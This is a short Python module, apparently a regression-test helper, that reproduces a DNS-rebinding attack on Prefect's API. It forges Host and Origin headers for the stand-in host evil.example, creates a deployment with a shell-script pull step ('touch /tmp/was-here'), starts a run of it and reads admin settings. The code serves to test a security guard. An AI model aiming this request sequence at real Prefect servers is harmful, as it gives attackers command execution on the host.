"""What a web page did to Prefect's API before there was a guard."""

import httpx

EVIL = "evil.example"
REBOUND = {"Host": f"{EVIL}:4200", "Origin": f"http://{EVIL}:4200"}
"""The headers of a page whose name points here."""


def attack(address, headers=None, auth=None):
    """Make a flow, a deployment with a shell step, and a run of it; gives the statuses."""
    step = {"prefect.deployments.steps.run_shell_script": {"script": "touch /tmp/was-here"}}
    with httpx.Client(base_url=address, headers=headers, auth=auth, timeout=30, trust_env=False) as page:
        flow = page.post("/flows/", json={"name": "evil"})
        made = page.post(
            "/deployments/",
            json={"name": "evil", "flow_id": "0" * 32, "pull_steps": [step], "entrypoint": "evil.py:evil"},
        )
        started = page.post(f"/deployments/{'0' * 32}/create_flow_run", json={})
        read = page.get("/admin/settings")
    return {answer.status_code for answer in (flow, made, started, read)}
